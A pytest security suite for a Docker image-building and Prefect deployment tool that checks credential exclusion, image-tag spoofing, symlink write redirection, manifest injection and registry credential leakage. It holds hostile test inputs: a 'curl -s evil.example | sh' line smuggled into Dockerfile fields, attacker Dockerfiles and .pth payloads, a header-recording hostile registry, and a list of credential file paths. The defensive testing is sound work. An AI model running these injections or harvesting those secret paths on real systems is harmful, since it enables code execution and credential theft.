"""Attacks on the image stage, each run for real: a pull request's files, a registry pusher, a hostile registry.

- Images carry no credentials: `dockerfile: auto` sends Docker no credential file, whatever `.dockerignore`
  says; a custom Dockerfile's context that would send one gets a warning naming it and the lines to add.
- Prod runs only what was built for it: an image pushed under the content tag by someone else is not
  registered; the deploy builds its own.
- Files flow-register writes stay its own: no symlink in the repository redirects a write, and no manifest
  text adds a line to a generated Dockerfile.
- Registry credentials go to the host the workflow names, over https, and stay on no disk.
"""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

import register.image as image_stage
from support import stages
from register.manifest import load_manifest
from register.problems import Invalid
from support.services import services_env

BIN = Path(sys.executable).parent
PASSWORD = "reg-secret-pw-7f3a"
CHECKOUT_TOKEN = "ghs_checkoutTOKEN0123456789"


# --- a flows repository of the test's own ------------------------------------------------------------

MANIFEST = """\
version: 1
project: {project}
image:
  repository: {repository}
  dockerfile: {dockerfile}
{extra}
environments:
  prod:
    work_pool: {{name: {pool}, type: docker}}
deployments:
  - name: hello
    entrypoint: flows/hello.py:hello
"""
FLOW = "from prefect import flow\n\n\n@flow\ndef hello():\n    return 1\n"

# Credential files as the tools that write them name them (see register/image/context.py SECRETS).
CREDENTIALS = {
    ".git/config": f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {CHECKOUT_TOKEN}\n',
    "gha-creds-3f2a91c0d4e5.json": '{"type": "external_account", "token": "gcp"}\n',
    ".env": "API_TOKEN=dotenv\n",
    ".env.production": "API_TOKEN=dotenv-prod\n",
    ".docker/config.json": '{"auths": {"ghcr.io": {"auth": "Y2k6cHc="}}}\n',
    ".aws/credentials": "[default]\naws_secret_access_key=aws\n",
    ".config/gcloud/application_default_credentials.json": "{}\n",
    ".azure/msal_token_cache.json": "{}\n",
    ".kube/config": "users: []\n",
    ".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    "deploy/id_rsa": "-----BEGIN RSA PRIVATE KEY-----\n",
    "certs/client.pem": "-----BEGIN PRIVATE KEY-----\n",
    ".netrc": "machine github.com password netrc\n",
    ".npmrc": "//registry.npmjs.org/:_authToken=npm\n",
    ".pypirc": "[pypi]\npassword = pypi\n",
    ".git-credentials": "https://x:token@github.com\n",
    "infra/terraform.tfstate": '{"secret": "tf"}\n',
    "sub/.env": "NESTED=1\n",
}


def flows_repo(root: Path, *, repository: str, pool: str = "prod-docker", dockerfile: str = "auto",
               extra: str = "", project: str | None = None) -> Path:
    (root / "flows").mkdir(parents=True)
    (root / "flows" / "hello.py").write_text(FLOW)
    path = root / "flows.yaml"
    path.write_text(MANIFEST.format(project=project or f"sec-{uuid.uuid4().hex[:8]}", repository=repository,
                                    dockerfile=dockerfile, extra=extra, pool=pool))
    return path


def with_credentials(root: Path) -> None:
    for relative, text in CREDENTIALS.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text(text)
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "flows.yml").write_text("on: push\n")


@pytest.fixture
def docker_env(monkeypatch, tmp_path) -> dict[str, str]:
    services = services_env()
    monkeypatch.setenv("DOCKER_HOST", services["DOCKER_HOST"])
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker-config"))
    monkeypatch.setenv("FLOW_REGISTER_BUILDER", "classic")  # DOCKER_BUILDKIT=0: what this machine has
    for name in ("REGISTRY_HOST", "REGISTRY_USERNAME", "REGISTRY_PASSWORD", "GITHUB_ACTIONS", "GITHUB_SHA"):
        monkeypatch.delenv(name, raising=False)
    return services


def docker(*args: str, input: bytes | None = None, check: bool = True) -> subprocess.CompletedProcess:
    done = subprocess.run(["docker", *args], input=input, capture_output=True, timeout=600)
    assert not check or done.returncode == 0, done.stderr.decode(errors="replace")
    return done


def files_of(reference: str) -> list[str]:
    """Every path in the image, as `docker export` of a container of it lists them (nothing is run)."""
    container = docker("create", reference).stdout.decode().strip()
    try:
        exported = docker("export", container).stdout
    finally:
        docker("rm", container)
    with tarfile.open(fileobj=io.BytesIO(exported)) as tar:
        return tar.getnames()


# --- 1. images carry no credentials ------------------------------------------------------------------

@pytest.mark.e2e
def test_a_generated_image_pulled_back_from_the_registry_holds_no_credential_file(docker_env, tmp_path):
    root = tmp_path / "repo"
    repository = f"{docker_env['REGISTRY']}/sec-{uuid.uuid4().hex[:8]}/flows"
    path = flows_repo(root, repository=repository, extra=f"  base: {docker_env['BASE_IMAGE']}")
    with_credentials(root)
    # The user's own .dockerignore tries to bring them back: it cannot.
    (root / ".dockerignore").write_text("!.git\n!gha-creds-*.json\n!.env\n!.aws\n")

    image = stages.prepare(load_manifest(path), "prod")
    assert image.built and image.pushed
    local = [f"{repository}:{t}" for t in image.tags]
    docker("rmi", *local)
    docker("pull", image.reference)  # what a worker runs: the registry's copy
    names = files_of(image.reference)

    workdir = f"opt/prefect/{load_manifest(path).project}"
    assert f"{workdir}/flows/hello.py" in names  # the code is there
    leaked = [n for n in names if n.startswith(f"{workdir}/") and
              any(n == f"{workdir}/{c}" or n.startswith(f"{workdir}/{c.split('/')[0]}/") and c.count("/")
                  for c in CREDENTIALS)]
    assert leaked == [], f"credential files in the pushed image: {leaked}"
    assert not [n for n in names if n.startswith(f"{workdir}/") and (
        "gha-creds" in n or n.endswith("/.git") or "/.git/" in n or n.endswith(".env"))]
    assert f"{workdir}/flows.yaml" not in names and f"{workdir}/.github" not in names  # not needed either
    docker("rmi", image.reference)


def test_a_custom_dockerfiles_context_with_credentials_gets_a_warning_with_the_lines_to_add(tmp_path, capsys):
    root = tmp_path / "repo"
    path = flows_repo(root, repository="127.0.0.1:9/flows", dockerfile="Dockerfile")
    (root / "Dockerfile").write_text("FROM python:3.12\nCOPY . /app\n")
    with_credentials(root)
    stages.prepare(load_manifest(path), "prod", dry_run=True)  # a plan: the registry cannot be reached
    err = capsys.readouterr().err
    # A warning at the manifest's `dockerfile:` line (an annotation there under GitHub Actions).
    assert f"{path}:5:15: warning: the build context {root} sends credential files" in err
    warning = err.split("sends credential files", 1)[1].split("[image-context-credentials]")[0]
    for shown in (".git", "gha-creds-3f2a91c0d4e5.json", ".env", ".aws", ".docker/config.json", "sub/.env"):
        assert shown in warning
    lines = warning.split("Add to ", 1)[1].splitlines()[1:]
    for line in (".git", "gha-creds-*.json", ".env", ".env.*", ".aws", ".docker/config.json", "**/.env",
                 "**/id_rsa*", "**/*.pem", "**/*.tfstate"):
        assert f"    {line}" in lines, (line, lines)
    # The manifest and .github change the content tag without changing the image: a hint, with its lines.
    hint = err.split("which the image does not need", 1)[1].split("[image-context-not-needed]")[0]
    assert "    flows.yaml" in hint and "    .github" in hint


def test_editing_the_manifest_or_github_leaves_the_generated_images_tag_alone(tmp_path):
    root = tmp_path / "repo"
    path = flows_repo(root, repository="127.0.0.1:9/flows")
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "flows.yml").write_text("on: push\n")
    before = image_stage.offline(load_manifest(path), "prod").content_tag
    path.write_text(path.read_text() + "    description: edited\n")
    (root / ".github" / "workflows" / "flows.yml").write_text("on: [push, pull_request]\n")
    (root / "gha-creds-1.json").write_text("{}")
    assert image_stage.offline(load_manifest(path), "prod").content_tag == before
    (root / "flows" / "hello.py").write_text(FLOW + "# changed\n")
    assert image_stage.offline(load_manifest(path), "prod").content_tag != before


# --- 2. prod runs only what was built for it -----------------------------------------------------------

def _deploy(path: Path, env: dict) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN / "flow-register"), "deploy", "-f", str(path), "--environment", "prod"],
                          capture_output=True, text=True, env=env, timeout=900)


def _push_attackers_image(tag_reference: str, base: str, tmp_path: Path) -> str:
    """What anyone with push access to the repository can do: their own image under the content tag."""
    context = tmp_path / f"attacker-{uuid.uuid4().hex[:6]}"
    context.mkdir()
    (context / "Dockerfile").write_text(f"FROM {base}\nRUN echo 'import os; os.system(\"id\")' > /attacker.py\n")
    env = {**os.environ, "DOCKER_BUILDKIT": "0"}
    subprocess.run(["docker", "build", "-t", tag_reference, str(context)], check=True, capture_output=True,
                   env=env, timeout=600)
    pushed = subprocess.run(["docker", "push", tag_reference], check=True, capture_output=True, text=True,
                            env=env, timeout=600)
    digest = next(w for w in pushed.stdout.split() if w.startswith("sha256:"))
    return digest


@pytest.mark.e2e
@pytest.mark.integration
def test_an_image_pushed_under_the_content_tag_by_someone_else_is_not_registered(docker_env, prefect_server,
                                                                                  tmp_path):
    from support.worker import api, create_docker_pool

    pool = f"prod-docker-{uuid.uuid4().hex[:6]}"
    create_docker_pool(prefect_server, pool)
    repository = f"{docker_env['REGISTRY']}/sec-{uuid.uuid4().hex[:8]}/flows"
    project = f"sec-{uuid.uuid4().hex[:8]}"
    path = flows_repo(tmp_path / "repo", repository=repository, pool=pool, project=project,
                      extra=f"  base: {docker_env['BASE_IMAGE']}")
    # names of its own on the session's server, which other tests' 'hello' deployments share
    path.write_text(path.read_text() + "defaults:\n  name_template: '{name}-{project}'\n")
    deployment = f"/deployments/name/hello/hello-{project}"
    env = {**os.environ, "PREFECT_API_URL": prefect_server.api_url, "PREFECT_SERVER_EPHEMERAL_ENABLED": "false",
           "PREFECT_HOME": str(tmp_path / "prefect-home")}
    env.pop("PREFECT_API_KEY", None)

    # The content tag is computed offline by anyone who has the files (a pull request's author, say).
    rendered = subprocess.run([str(BIN / "flow-register"), "render", "-f", str(path), "--environment", "prod"],
                              capture_output=True, text=True, env=env, timeout=300)
    assert rendered.returncode == 0, rendered.stderr
    tag = json.loads(rendered.stdout)["image"]["content_tag"]
    attackers = _push_attackers_image(f"{repository}:{tag}", docker_env["BASE_IMAGE"], tmp_path)

    first = _deploy(path, env)
    assert first.returncode == 0, first.stdout + first.stderr
    assert "no deploy of project" in first.stderr and "registered that image" in first.stderr, first.stderr
    assert "image: built" in first.stderr and "no build, no push" not in first.stderr
    registered = api(prefect_server, "GET", deployment)["job_variables"]["image"]
    assert registered.startswith(f"{repository}@sha256:") and registered != f"{repository}@{attackers}"
    assert "/attacker.py" not in " ".join(files_of(registered))

    # Its own image, recorded on the server by that deploy: reused, no build.
    again = _deploy(path, env)
    assert again.returncode == 0, again.stderr
    assert "already run on the Prefect server" in again.stderr and "no build, no push" in again.stderr
    assert "Nothing to change" in again.stdout, again.stdout

    # Pushed over again: built again, and the server keeps running the image built for it.
    _push_attackers_image(f"{repository}:{tag}", docker_env["BASE_IMAGE"], tmp_path)
    third = _deploy(path, env)
    assert third.returncode == 0, third.stderr
    assert "image: built" in third.stderr and "registered that image" in third.stderr
    assert api(prefect_server, "GET", deployment)["job_variables"]["image"] == registered


# --- 3. files flow-register writes stay its own --------------------------------------------------------

PTH = "import os; open(os.environ.get('PWNED', '/dev/null'), 'w').write('ran')\n"


@pytest.mark.e2e
@pytest.mark.parametrize("plant", ["symlinked file", "dangling symlinked file", "symlinked folder",
                                   "symlinked parent of the file"])
def test_no_committed_symlink_makes_a_deploy_write_outside_the_repository(docker_env, tmp_path, plant):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.pth").write_text("untouched\n")
    root = tmp_path / "repo"
    path = flows_repo(root, repository=f"{docker_env['REGISTRY']}/sec-{uuid.uuid4().hex[:8]}/flows",
                      extra=f"  base: {docker_env['BASE_IMAGE']}")
    generated = root / ".flow-register"
    if plant == "symlinked file":
        generated.mkdir()
        (generated / "Dockerfile").symlink_to(outside / "victim.pth")
    elif plant == "dangling symlinked file":
        generated.mkdir()
        (generated / "Dockerfile").symlink_to(outside / "new.pth")
    elif plant == "symlinked folder":
        generated.symlink_to(outside)
    else:
        (root / "nested").mkdir()
        (root / "nested" / "link").symlink_to(outside)
        generated.symlink_to(root / "nested" / "link")
    before = {p.name: p.read_bytes() for p in outside.iterdir()}

    stages.prepare(load_manifest(path), "prod", push=False)

    assert {p.name: p.read_bytes() for p in outside.iterdir()} == before, "a deploy wrote outside the repository"


VALUES = {
    "image.base": ("  base: {value}", "base"),
    "image.workdir": ("  workdir: {value}", "workdir"),
    "image.build_args value": ("  build_args: {{X: {value}}}", "build argument X"),
    "image.platform": ("  platform: {value}", "platform"),
    "image.context": ("  context: {value}", "context"),
}


@pytest.mark.parametrize("where", sorted(VALUES))
@pytest.mark.parametrize("char", ["\\n", "\\r", "\\0", "\\u2028"])
def test_no_manifest_value_can_add_a_line_to_a_generated_dockerfile(tmp_path, where, char):
    template, says = VALUES[where]
    value = {"image.base": "python:3.12", "image.workdir": "/opt/app"}.get(where, "x")
    line = template.format(value=json.dumps(value + "$").replace("$", char + "RUN curl -s evil.example | sh"))
    path = flows_repo(tmp_path / "repo", repository="127.0.0.1:9/flows", extra=line)
    problems = [p for p in load_manifest(path).problems if p.rule == "image-value"]
    assert problems, f"{where} with {char} passed validate"
    [problem] = problems
    assert problem.line == 6 and says in problem.message and "control character" in problem.message
    with pytest.raises(Invalid) as refused:  # deploy refuses it too, before anything is built or written
        stages.prepare(load_manifest(path), "prod", dry_run=True)
    assert [p.rule for p in refused.value.problems] == ["image-value"]


def test_a_build_argument_name_adds_no_line_either(tmp_path):
    path = flows_repo(tmp_path / "repo", repository="127.0.0.1:9/flows",
                      extra='  build_args: {"X=1\\nRUN id #": 1}')
    [problem] = [p for p in load_manifest(path).problems if p.rule == "image-value"]
    assert problem.line == 6 and "build argument name" in problem.message


# --- 4. registry credentials: the named host only, over https, never on disk --------------------------

class Recorder(BaseHTTPRequestHandler):
    """A hostile registry / token realm on loopback: records every Authorization header it is sent."""

    seen: list[tuple[str, str, str]]
    answer = None  # (status, headers) for every request

    def _any(self):
        self.seen.append((self.command, self.path, self.headers.get("Authorization", "")))
        status, headers, *body = self.answer(self)
        data = body[0] if body else b""
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    do_GET = do_HEAD = do_PUT = _any

    def log_message(self, *args):
        pass


def hostile(answer) -> tuple[ThreadingHTTPServer, list]:
    seen: list = []
    handler = type("Handler", (Recorder,), {"seen": seen, "answer": staticmethod(answer)})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, seen


def sent_password(seen: list) -> bool:
    basic = base64.b64encode(f"ci:{PASSWORD}".encode()).decode()
    return any(basic in auth or PASSWORD in auth or PASSWORD in path for _, path, auth in seen)


@pytest.fixture
def workflow_credentials(monkeypatch, tmp_path):
    """What the workflow author gave: credentials for ghcr.io."""
    monkeypatch.setenv("REGISTRY_HOST", "ghcr.io")
    monkeypatch.setenv("REGISTRY_USERNAME", "ci")
    monkeypatch.setenv("REGISTRY_PASSWORD", PASSWORD)
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "docker-config"))


def test_a_dry_run_sends_the_credentials_to_no_registry_the_manifest_names(tmp_path, workflow_credentials):
    registry, seen = hostile(lambda r: (401, {"WWW-Authenticate": 'Basic realm="registry"'}))
    try:
        path = flows_repo(tmp_path / "repo", repository=f"127.0.0.1:{registry.server_port}/flows")
        stages.prepare(load_manifest(path), "prod", dry_run=True)
    finally:
        registry.shutdown()
    assert seen, "the hostile registry was not asked"
    assert not sent_password(seen), seen


@pytest.mark.parametrize("how", ["token realm on another port", "redirect"])
def test_the_registrys_answer_sends_the_credentials_nowhere_else(tmp_path, monkeypatch, workflow_credentials, how):
    realm, realm_seen = hostile(lambda r: (200, {"Content-Type": "application/json"}, b'{"token": "t0k"}'))
    if how == "redirect":  # the registry, given the credentials, sends the client on elsewhere
        answer = lambda r: (307, {"Location": f"http://127.0.0.1:{realm.server_port}{r.path}"}) \
            if r.headers.get("Authorization") else (401, {"WWW-Authenticate": 'Basic realm="registry"'})
    else:
        answer = lambda r: (401, {"WWW-Authenticate":
                                  f'Bearer realm="http://127.0.0.1:{realm.server_port}/token",service="x"'})
    registry, seen = hostile(answer)
    monkeypatch.setenv("REGISTRY_HOST", f"127.0.0.1:{registry.server_port}")  # the right registry, this time
    try:
        path = flows_repo(tmp_path / "repo", repository=f"127.0.0.1:{registry.server_port}/flows")
        stages.prepare(load_manifest(path), "prod", dry_run=True)
    finally:
        registry.shutdown()
        realm.shutdown()
    assert not sent_password(realm_seen), realm_seen
    assert how != "redirect" or sent_password(seen)  # the credentials are for the registry the workflow named


@pytest.mark.e2e
def test_no_registry_password_is_left_in_a_docker_config_after_a_run(docker_env, tmp_path, monkeypatch):
    user_config = Path(os.environ["DOCKER_CONFIG"])
    user_config.mkdir()
    # A credential store would keep the password for good: the run's login must not write into it.
    kept = {"auths": {}, "HttpHeaders": {"X-Kept": "1"}, "credsStore": "flow-register-test-store"}
    (user_config / "config.json").write_text(json.dumps(kept))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))  # where a run's own Docker config would stay
    monkeypatch.setenv("REGISTRY_HOST", docker_env["AUTH_REGISTRY"])
    monkeypatch.setenv("REGISTRY_USERNAME", docker_env["AUTH_REGISTRY_USER"])
    monkeypatch.setenv("REGISTRY_PASSWORD", docker_env["AUTH_REGISTRY_PASSWORD"])
    path = flows_repo(tmp_path / "repo", repository=f"{docker_env['AUTH_REGISTRY']}/sec-{uuid.uuid4().hex[:8]}/f",
                      extra=f"  base: {docker_env['BASE_IMAGE']}")
    image = stages.prepare(load_manifest(path), "prod")
    assert image.pushed  # logged in, built and pushed
    secret = base64.b64encode(f"{docker_env['AUTH_REGISTRY_USER']}:{docker_env['AUTH_REGISTRY_PASSWORD']}".encode())
    for folder in (user_config, tmp_path / "home", tmp_path / "tmp"):
        for file in (f for f in folder.rglob("*") if f.is_file()) if folder.exists() else []:
            text = file.read_bytes()
            assert secret not in text and docker_env["AUTH_REGISTRY_PASSWORD"].encode() not in text, file
    assert list((tmp_path / "tmp").iterdir()) == []  # the run's own Docker config is gone
    assert json.loads((user_config / "config.json").read_text()) == kept


# --- 3b. the other files flow-register writes ----------------------------------------------------------

PREFECT_YAML = """\
deployments:
  - name: hello
    entrypoint: flows/hello.py:hello
    work_pool: {name: prod-docker}
"""


@pytest.mark.parametrize("target", ["outside/evil.pth", "repo/evil.pth"])
def test_import_never_writes_its_manifest_through_a_committed_link(tmp_path, target):
    (tmp_path / "outside").mkdir()
    root = tmp_path / "repo"
    (root / "flows").mkdir(parents=True)
    (root / "flows" / "hello.py").write_text(FLOW)
    (root / "prefect.yaml").write_text(PREFECT_YAML)
    (root / "flows.yaml").symlink_to(tmp_path / target)  # dangling: "nothing there" to a naive check
    done = subprocess.run([str(BIN / "flow-register"), "import", str(root / "prefect.yaml"), "-o",
                           str(root / "flows.yaml")], capture_output=True, text=True, timeout=300)
    assert not (tmp_path / target).exists(), "import wrote through the link"
    assert done.returncode != 0 and "flow-register: error:" in done.stderr, done.stderr


def test_a_local_servers_files_are_not_written_through_a_committed_link(tmp_path):
    from devtools import local_server

    outside = tmp_path / "outside"
    outside.mkdir()
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".flow-register").symlink_to(outside)  # as a commit could plant it where the demo keeps its state
    try:
        server = local_server.start(repo / ".flow-register" / "demo", top=repo, timeout=60)
        server.stop()
    except OSError as refused:
        assert "symbolic link" in str(refused)
    assert list(outside.iterdir()) == [], "the server's files went outside the repository"
